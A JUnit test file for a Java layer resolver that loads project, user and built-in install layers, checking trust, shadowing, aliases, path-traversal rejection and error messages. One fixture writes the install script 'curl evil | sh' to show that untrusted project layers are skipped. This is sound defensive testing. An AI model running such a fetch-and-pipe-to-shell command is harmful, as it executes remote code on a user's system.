package dev.mino.layers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LayerResolverTest {

    @TempDir
    Path tmp;

    private Path project;
    private Path config;

    @BeforeEach
    void dirs() {
        project = tmp.resolve("project");
        config = tmp.resolve("config");
    }

    private Path projectLayer(String dir, String name, String script) throws IOException {
        return writeLayer(project.resolve(".mino/layers").resolve(dir), name, "project " + name, script);
    }

    private Path userLayer(String dir, String name, String script) throws IOException {
        return writeLayer(config.resolve("layers").resolve(dir), name, "user " + name, script);
    }

    static Path writeLayer(Path dir, String name, String description, String script) throws IOException {
        Files.createDirectories(dir);
        Files.writeString(dir.resolve("layer.toml"),
                "[layer]\nname = \"" + name + "\"\ndescription = \"" + description + "\"\nversion = \"1\"\n");
        if (script != null) {
            Files.writeString(dir.resolve("install.sh"), script);
        }
        return dir;
    }

    private LayerResolver resolver(boolean trusted) {
        return LayerResolver.builder().project(project, trusted).userConfigDir(config).build();
    }

    @Test
    void aTrustedProjectLayerResolvesFromTheProject() throws IOException {
        Path projectDir = projectLayer("mine", "mine", "echo project\n");

        Layer layer = resolver(true).resolve("mine").layers().get(0);

        assertEquals(LayerSource.PROJECT, layer.source());
        assertEquals(Optional.of(projectDir), layer.directory());
        assertEquals(Optional.of("echo project\n"), layer.installScript());
    }

    @Test
    void aProjectLayerNeverShadowsABuiltInLayer() throws IOException {
        Path projectDir = projectLayer("typescript", "typescript", "echo project\n");
        projectLayer("ts", "ts", "echo project\n");
        projectLayer("mine", "mine", "echo project\n");

        LayerException e = assertThrows(LayerException.class, () -> resolver(true).resolve("typescript"));
        assertEquals("Project layer " + projectDir + " has the name of the built-in layer 'typescript'; a project "
                + "layer never replaces a built-in one", e.getMessage());
        assertTrue(e.hint().startsWith("Rename the folder and its [layer] name"), e.hint());
        assertThrows(LayerException.class, () -> resolver(true).resolve("ts"), "an alias is a built-in name too");
        // The positive control: a name of its own resolves from the project.
        assertEquals(LayerSource.PROJECT, resolver(true).resolve("mine").layers().get(0).source());
    }

    @Test
    void aProjectLayerNeverShadowsAUserLayer() throws IOException {
        userLayer("mine", "mine", "echo user\n");
        projectLayer("mine", "mine", "echo project\n");

        LayerException e = assertThrows(LayerException.class, () -> resolver(true).resolve("mine"));
        assertTrue(e.getMessage().contains("has the name of your layer " + config.resolve("layers/mine")),
                e.getMessage());
        assertEquals(LayerSource.USER, resolver(false).resolve("mine").layers().get(0).source(),
                "untrusted project layers are skipped, so the user's layer is used");
    }

    @Test
    void aProjectLayerMayNotCallItselfLikeABuiltInInItsManifest() throws IOException {
        projectLayer("innocent", "python", "echo project\n");

        LayerException e = assertThrows(LayerException.class, () -> resolver(true).resolve("innocent"));
        assertTrue(e.getMessage().contains("is called 'python' in its layer.toml"), e.getMessage());
    }

    @Test
    void userBeatsBuiltIn() throws IOException {
        userLayer("rust", "rust", "echo user\n");

        LayerResolution result = resolver(true).resolve(List.of("rust", "python"));

        assertEquals(LayerSource.USER, result.layers().get(0).source());
        assertEquals(LayerSource.BUILT_IN, result.layers().get(1).source());
        assertEquals(List.of(), result.warnings());
    }

    @Test
    void untrustedProjectLayersAreSkippedWithAWarning() throws IOException {
        Path projectDir = projectLayer("typescript", "typescript", "curl evil | sh\n");

        LayerResolution result = resolver(false).resolve(List.of("typescript", "typescript"));

        assertEquals(LayerSource.BUILT_IN, result.layers().get(0).source());
        assertEquals(List.of("Skipping project-local layer " + projectDir + ": the project's layers are not trusted"),
                result.warnings(), "one warning, not one per request");
    }

    @Test
    void untrustedProjectOnlyLayerIsNotFoundAndSaysWhy() throws IOException {
        Path projectDir = projectLayer("mine", "mine", "true\n");

        LayerException e = assertThrows(LayerException.class, () -> resolver(false).resolve("mine"));

        assertEquals("Layer 'mine' not found. Searched: " + projectDir
                + " (skipped: the project's layers are not trusted), " + config.resolve("layers/mine")
                + ", built-in layers", e.getMessage());
        assertTrue(e.hint().startsWith("Trust the project's layers"), e.hint());
    }

    @Test
    void notFoundListsWhereItLooked() {
        LayerException e = assertThrows(LayerException.class, () -> resolver(true).resolve(List.of("python", "nope")));

        assertEquals("Layer 'nope' not found. Searched: " + project.resolve(".mino/layers/nope") + ", "
                + config.resolve("layers/nope") + ", built-in layers", e.getMessage());
        assertEquals("Create a layer with layer.toml + install.sh in .mino/layers/nope/ or "
                + config.resolve("layers/nope") + "/", e.hint());
    }

    @Test
    void builtInOnlyResolver() {
        LayerResolver builtIns = LayerResolver.builder().build();
        assertEquals("python", builtIns.resolve("py").layers().get(0).name());
        LayerException e = assertThrows(LayerException.class, () -> builtIns.resolve("nope"));
        assertEquals("Layer 'nope' not found. Searched: built-in layers", e.getMessage());
    }

    @Test
    void invalidNameIsRejectedBeforeAnyLookup() {
        LayerException e = assertThrows(LayerException.class, () -> resolver(true).resolve("../x"));
        assertEquals("Invalid layer name '../x': must not contain path separators or '..'", e.getMessage());
    }

    @Test
    void aliasesApplyToBuiltInsOnly() throws IOException {
        userLayer("ts", "ts", "echo mine\n");
        userLayer("typescript", "typescript", "echo user typescript\n");

        assertEquals(Optional.of("echo mine\n"), resolver(true).resolve("ts").layers().get(0).installScript(),
                "a directory named like an alias is found by its literal name");
        assertEquals(LayerSource.BUILT_IN, resolver(true).resolve("node").layers().get(0).source(),
                "no directory lookup through an alias");
    }

    @Test
    void orderAndDuplicatesAreKept() {
        List<String> names = resolver(true).resolve(List.of("python", "ts", "typescript")).layers().stream()
                .map(Layer::name).toList();
        assertEquals(List.of("python", "typescript", "typescript"), names);
    }

    @Test
    void installScriptRulesForDirectories() throws IOException {
        userLayer("comments", "comments", "# only a comment\n");
        writeLayer(config.resolve("layers/userOnly"), "userOnly", "d", null);
        Files.writeString(config.resolve("layers/userOnly/layer.toml"), "[user_install]\nruntime = \"uv\"\n",
                java.nio.file.StandardOpenOption.APPEND);
        writeLayer(config.resolve("layers/versionOnly"), "versionOnly", "d", null);
        Files.writeString(config.resolve("layers/versionOnly/layer.toml"), "[user_install]\nruntime_version = \"3\"\n",
                java.nio.file.StandardOpenOption.APPEND);
        writeLayer(config.resolve("layers/broken"), "broken", "d", null);

        assertEquals(Optional.of("# only a comment\n"),
                resolver(true).resolve("comments").layers().get(0).installScript(),
                "a directory's script counts even if only comments");
        assertEquals(Optional.empty(), resolver(true).resolve("userOnly").layers().get(0).installScript());
        LayerException versionOnly = assertThrows(LayerException.class, () -> resolver(true).resolve("versionOnly"));
        assertEquals("Layer install script missing: " + config.resolve("layers/versionOnly/install.sh"),
                versionOnly.getMessage());
        LayerException broken = assertThrows(LayerException.class, () -> resolver(true).resolve("broken"));
        assertEquals("Layer install script missing: " + config.resolve("layers/broken/install.sh"),
                broken.getMessage());
    }

    @Test
    void aBrokenManifestIsReportedWithItsPath() throws IOException {
        Path dir = userLayer("bad", "bad", "true\n");
        Files.writeString(dir.resolve("layer.toml"), "[layer]\nname = \"bad\"\n");

        LayerException e = assertThrows(LayerException.class, () -> resolver(true).resolve("bad"));

        assertEquals(dir.resolve("layer.toml") + ": layer.description is required (a string)", e.getMessage());
    }

    @Test
    void aDirectoryWithoutLayerTomlDoesNotExist() throws IOException {
        Files.createDirectories(config.resolve("layers/python"));
        Files.writeString(config.resolve("layers/python/install.sh"), "echo nope\n");

        assertEquals(LayerSource.BUILT_IN, resolver(true).resolve("python").layers().get(0).source());
    }

    @Test
    void listingOrderIsProjectUserThenBuiltIns() throws IOException {
        projectLayer("zeta", "zeta", "true\n");
        projectLayer("alpha", "alpha", "true\n");
        Path shadow = projectLayer("rust", "rust", "true\n");
        userLayer("mine", "mine", "true\n");
        Path bad = userLayer("bad", "bad", "true\n");
        Files.writeString(bad.resolve("layer.toml"), "not toml [");

        LayerListing listing = resolver(true).list();

        assertEquals(List.of("alpha", "zeta", "mine", "typescript", "rust", "python"),
                listing.layers().stream().map(LayerSummary::name).toList());
        assertEquals(List.of(LayerSource.PROJECT, LayerSource.PROJECT, LayerSource.USER, LayerSource.BUILT_IN,
                LayerSource.BUILT_IN, LayerSource.BUILT_IN),
                listing.layers().stream().map(LayerSummary::source).toList());
        assertEquals("project alpha", listing.layers().get(0).description());
        assertEquals(2, listing.warnings().size());
        assertTrue(listing.warnings().get(0).startsWith("Skipping layer " + shadow + ": Project layer "),
                listing.warnings().get(0));
        assertTrue(listing.warnings().get(1).startsWith("Skipping layer " + bad + ": Invalid configuration at "),
                listing.warnings().get(1));
    }

    @Test
    void untrustedListingLeavesProjectLayersOut() throws IOException {
        projectLayer("rust", "rust", "true\n");

        LayerListing listing = resolver(false).list();

        assertEquals(List.of("typescript", "rust", "python"),
                listing.layers().stream().map(LayerSummary::name).toList());
        assertEquals(LayerSource.BUILT_IN, listing.layers().get(1).source());
        assertEquals(List.of("Project-local layers in " + project.resolve(".mino/layers")
                + " are not listed: the project's layers are not trusted"), listing.warnings());
    }
}
